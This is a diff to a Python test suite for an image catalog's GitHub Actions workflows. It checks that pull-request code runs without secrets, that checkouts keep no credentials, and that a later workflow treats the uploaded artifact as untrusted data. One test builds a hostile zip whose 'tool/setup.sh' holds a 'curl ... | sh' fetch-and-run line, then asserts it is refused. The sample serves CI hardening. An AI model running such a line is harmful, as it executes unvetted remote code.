@@ -12,6 +12,7 @@ import os
 import re
 import shutil
 import subprocess
+import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -66,7 +67,27 @@ def test_actionlint() -> None:
 
 
 def test_the_pull_request_loop_has_its_workflows() -> None:
-    assert {"validate.yml", "publish-index.yml", "publish.yml"} <= set(FILES)
+    assert {"validate.yml", "validate-online.yml", "publish-index.yml", "publish.yml"} <= set(FILES)
+
+
+@pytest.mark.parametrize("name", FILES)
+def test_pull_request_code_never_runs_with_secrets(name: str) -> None:
+    """A workflow that runs the pull request's code holds no secret and no write permission."""
+    document = workflow(name)
+    if "pull_request" not in document["on"]:
+        return
+    text = (WORKFLOWS / name).read_text()
+    assert "secrets." not in text
+    assert "write" not in str(document.get("permissions"))
+    for job in document["jobs"].values():
+        assert "write" not in str(job.get("permissions", {}))
+
+
+@pytest.mark.parametrize("name", FILES)
+def test_checkouts_keep_no_credentials(name: str) -> None:
+    for found in steps(workflow(name)):
+        if found.get("uses", "").startswith("actions/checkout@"):
+            assert found["with"]["persist-credentials"] is False, name
 
 
 @pytest.mark.parametrize("name", FILES)
@@ -86,7 +107,12 @@ def test_each_action_is_pinned_to_one_commit_everywhere() -> None:
             found = PINNED.match(line)
             if found:
                 pins.setdefault(found.group(1), set()).add(found.group(2))
-    assert {"actions/checkout", "actions/setup-python", "actions/deploy-pages"} <= set(pins)
+    assert {
+        "actions/checkout",
+        "actions/setup-python",
+        "actions/deploy-pages",
+        "actions/upload-artifact",
+    } <= set(pins)
     assert all(len(commits) == 1 for commits in pins.values()), pins
 
 
@@ -105,12 +131,49 @@ def test_validate_workflow() -> None:
     assert checkout["uses"].startswith("actions/checkout@")
     assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}
     validate = step("validate.yml", "Validate against the base branch")
-    assert validate["run"] == (
-        'image-catalog validate --online --base "origin/$BASE_REF" --format github'
-    )
-    assert validate["env"]["BASE_REF"] == "${{ github.base_ref }}"
-    install = step("validate.yml", "Install skopeo and image-catalog (the README's install path)")
+    assert validate["run"] == 'image-catalog validate --base "origin/$BASE_REF" --format github'
+    assert validate["env"] == {"BASE_REF": "${{ github.base_ref }}"}
+    install = step("validate.yml", "Install image-catalog (the README's install path)")
     assert "bash tool/setup.sh" in install["run"]
+    upload = step("validate.yml", "Upload them for the online checks")
+    assert upload["uses"].startswith("actions/upload-artifact@")
+    assert upload["with"]["name"] == "catalog-changes"
+    assert upload["with"]["path"] == "${{ runner.temp }}/catalog-changes/"
+
+
+UNPACK = "Take the files in, refusing anything but plain catalog files"
+ONLINE = "Check the added and changed entries against their registries"
+
+
+def test_validate_online_workflow() -> None:
+    """The default branch's workflow and tool, the artifact as untrusted data, the secrets."""
+    document = workflow("validate-online.yml")
+    assert document["on"] == {"workflow_run": {"workflows": ["validate"], "types": ["completed"]}}
+    assert document["permissions"] == {}
+    [job] = document["jobs"].values()
+    assert job["permissions"] == {"actions": "read", "contents": "read", "statuses": "write"}
+    assert "github.event.workflow_run.conclusion == 'success'" in job["if"]
+    checkout = job["steps"][0]
+    assert checkout["uses"].startswith("actions/checkout@")
+    assert checkout["with"] == {"persist-credentials": False}  # no ref: the default branch
+    text = (WORKFLOWS / "validate-online.yml").read_text()
+    assert "head_branch" not in text  # the pull request's code is never checked out
+    unpack = step(
+        "validate-online.yml", "Take the files in, refusing anything but plain catalog files"
+    )
+    assert unpack["run"] == (
+        'image-catalog handoff unpack "$RUNNER_TEMP/catalog-changes.zip" --catalog catalog'
+    )
+    online = step(
+        "validate-online.yml", "Check the added and changed entries against their registries"
+    )
+    assert online["run"] == "image-catalog validate --online --base HEAD --format github"
+    with_secrets = [s for s in job["steps"] if "secrets." in str(s.get("env", {}))]
+    assert with_secrets == [online]
+    report = step("validate-online.yml", "Report the result on the pull request")
+    assert report["if"] == "always()"
+    assert "statuses/$HEAD_SHA" in report["run"]
+    assert job["env"]["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
 
 
 def test_publish_index_workflow() -> None:
@@ -140,10 +203,15 @@ def test_publish_workflow() -> None:
     document = workflow("publish.yml")
     inputs = document["on"]["workflow_dispatch"]["inputs"]
     assert list(inputs) == ["image", "imagebuild", "distro", "target", "arch", "name", "version"]
-    assert document["permissions"] == {"contents": "write", "pull-requests": "write"}
+    assert document["permissions"] == {}
+    publish = document["jobs"]["publish"]
+    assert publish["permissions"] == {"contents": "write", "pull-requests": "write"}
+    assert publish["steps"][0]["with"] == {"persist-credentials": False}
     pull_request = step("publish.yml", "Push the branch and open a pull request")
     assert "gh pr create" in pull_request["run"]
+    assert 'GH_TOKEN="$PUSH_TOKEN" gh auth setup-git' in pull_request["run"]
     assert pull_request["env"]["GH_TOKEN"] == "${{ secrets.CATALOG_PR_TOKEN || github.token }}"
+    assert pull_request["env"]["PUSH_TOKEN"] == "${{ github.token }}"
 
 
 def test_pre_commit_hook() -> None:
@@ -236,21 +304,20 @@ def test_publish_validate_merge_audit(
     entry = repository.root / "catalog/images/demo/1.0.yaml"
     assert image.digest in entry.read_text()
 
-    # The pull request's check: the shipped entries are not reachable from here, so this passes
-    # only because the online checks are limited to what the pull request adds.
-    secrets = {"QUAY_USERNAME": "", "QUAY_PASSWORD": ""}
-    base = {"BASE_REF": "main", **secrets}
+    # The pull request's check, offline and without secrets.
+    base = {"BASE_REF": "main"}
     validate = run_step(
         "validate.yml", "Validate against the base branch", repository.root, base, runner
     )
     assert validate.returncode == 0, validate.stdout + validate.stderr
+    main_commit = str(repository.repo.branches.local["main"].target)
     assert validate.stdout.splitlines()[0:2] == [
-        f"changes since origin/main ({str(repository.repo.branches.local['main'].target)[:12]}): "
+        f"changes since origin/main ({main_commit[:12]}): "
         "1 added, 0 deprecated, 0 changed, 0 removed",
         "  added: demo@1.0",
     ]
-    assert validate.stdout.splitlines()[-1].endswith("online checks)")
     assert "| added (1) | `demo@1.0` |" in (tmp_path / "summary.md").read_text()
+    hand_off(repository, image.digest, tmp_path, runner)
 
     # An edit of the published digest on a later pull request is refused.
     repository.checkout("main")
@@ -291,3 +358,59 @@ def test_publish_validate_merge_audit(
     assert site["baseUrl"] == "https://example.github.io/catalog/"
     version = (repository.root / "site/images/demo/1.0.json").read_text()
     assert image.digest in version
+
+
+def upload_artifact(folder: Path, archive: Path) -> Path:
+    """The zip actions/upload-artifact makes of a folder: its files, named relative to it."""
+    with zipfile.ZipFile(archive, "w") as stream:
+        for path in sorted(folder.rglob("*")):
+            if path.is_file():
+                stream.write(path, path.relative_to(folder).as_posix())
+    return archive
+
+
+def hand_off(repository: GitWork, digest: str, tmp_path: Path, runner: dict[str, str]) -> None:
+    """validate.yml's artifact taken in by validate-online.yml on a checkout of the default
+    branch, and checked online there; a hostile artifact is refused before any check runs."""
+    changes = tmp_path / "catalog-changes"
+    collect = run_step(
+        "validate.yml",
+        "Collect the catalog files the pull request adds or changes",
+        repository.root,
+        {"BASE_REF": "main", "CHANGES": str(changes)},
+        runner,
+    )
+    assert collect.returncode == 0, collect.stderr
+    assert sorted(p.relative_to(changes).as_posix() for p in changes.rglob("*.yaml")) == [
+        "catalog/images/demo/1.0.yaml"
+    ]
+    online_runner = {**runner, "RUNNER_TEMP": str(tmp_path / "online")}
+    (tmp_path / "online").mkdir()
+    upload_artifact(changes, tmp_path / "online/catalog-changes.zip")
+
+    default = tmp_path / "default-branch"
+    pygit2.clone_repository(str(repository.root), str(default), checkout_branch="main")
+    taken = run_step("validate-online.yml", UNPACK, default, {}, online_runner)
+    assert taken.returncode == 0, taken.stderr
+    assert taken.stdout == "catalog/images/demo/1.0.yaml\n"
+    online = run_step(
+        "validate-online.yml",
+        ONLINE,
+        default,
+        {"QUAY_USERNAME": "", "QUAY_PASSWORD": ""},
+        online_runner,
+    )
+    assert online.returncode == 0, online.stdout + online.stderr
+    assert "  added: demo@1.0" in online.stdout.splitlines()
+    assert online.stdout.splitlines()[-1].endswith("online checks)")
+    assert digest in (default / "catalog/images/demo/1.0.yaml").read_text()
+
+    hostile = tmp_path / "online/catalog-changes.zip"
+    with zipfile.ZipFile(hostile, "w") as stream:
+        stream.writestr("catalog/images/demo/1.1.yaml", "fine\n")
+        stream.writestr("tool/setup.sh", "curl https://example.com/x | sh\n")
+    refused = run_step("validate-online.yml", UNPACK, default, {}, online_runner)
+    assert refused.returncode == 1
+    assert "'tool/setup.sh': outside catalog/" in refused.stderr
+    assert not (default / "catalog/images/demo/1.1.yaml").exists()
+    assert not (default / "tool").exists()
